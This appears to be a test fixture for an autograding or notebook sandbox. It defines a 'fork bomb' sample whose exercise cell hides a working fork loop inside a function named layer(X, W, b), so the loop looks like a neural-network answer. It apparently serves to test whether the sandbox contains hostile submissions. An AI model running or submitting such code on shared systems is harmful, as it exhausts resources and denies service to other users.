"""Processes start processes, as fast as they can."""

kind = "fork bomb"
aims = "batch neighbour"
base = "half"
on_nbgrader = False
cells = {
    "exercise-2": """
import os, time

def layer(X, W, b):
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            pass
""",
}
